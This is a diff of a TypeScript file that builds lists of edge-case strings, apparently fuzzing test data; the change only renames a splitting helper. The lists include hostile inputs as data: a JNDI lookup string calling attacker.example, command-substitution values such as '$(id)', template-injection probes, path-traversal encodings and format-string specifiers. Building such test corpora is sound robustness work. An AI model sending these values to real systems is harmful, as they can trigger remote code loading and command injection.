@@ -3,8 +3,8 @@ function codePoints(from: number, to: number): readonly string[] {
   return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
 }
 
-/** Splits each line at its spaces. */
-function splitLines(...lines: readonly string[]): readonly string[] {
+/** Lists the strings that are separated by spaces. */
+function splitAtSpaces(...lines: readonly string[]): readonly string[] {
   return lines.flatMap((line) => line.split(' '));
 }
 
@@ -55,14 +55,14 @@ const lineBreaks = [
 ];
 const words = [
   '[object Object]',
-  ...splitLines(
+  ...splitAtSpaces(
     'null undefined NaN Infinity -Infinity true false None nil NULL (null) __proto__',
     'constructor prototype toString hasOwnProperty valueOf __defineGetter__ then CON PRN',
     'AUX NUL COM1 LPT1 Scunthorpe undef eval this __dirname Symbol.iterator $where length',
     'name arguments self localhost',
   ),
 ];
-const numbers = splitLines(
+const numbers = splitAtSpaces(
   '0 -0 1/0 0x0 0xffffffff 1e309 1e-400 .5 0.1e 1,000 ٣ ① 9007199254740993',
   '999999999999999999999 2147483648 -2147483649 1E2 +1 0b1 1_000',
 );
@@ -82,7 +82,7 @@ const quotes = [
   '<%= 1+1 %>',
   '`id`',
   '\x24{jndi:ldap://attacker.example/a}',
-  ...splitLines(
+  ...splitAtSpaces(
     '«» “” ‘’ < > & &amp; &#0; % %% %s%n%x %00 %2e%2e%2f %ff #{1+1} {{1+1}} $(id) $HOME',
     '%USERPROFILE% {0} %@ @{x}',
   ),
@@ -124,7 +124,7 @@ const injections = [
   'Basic dTpw',
   'data:text/html,x',
 ];
-const scripts = splitLines(
+const scripts = splitAtSpaces(
   'Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ 田中さんにあげて下さい 사회과학원 社會科學院 ÅÍÎÏ˝ÓÔ مُنَاقَشَةُ בְּרֵאשִׁית',
   'ЁЂЃЄЅІЇ ⁰⁴⁵₀₁₂ Ⱥ İıſß ﬁﬂ ǅ ṩ Ṩ क्षत्रिय ไทย ᚠᛇᚻ ⠓⠑⠇⠇⠕ 𝒯𝒽𝑒 𠜎𠜱 Z̴͚a͜l̛g͠o̷ e\u0301',
   '\u0301 \u0338 ﷺ ‱ ﷽',
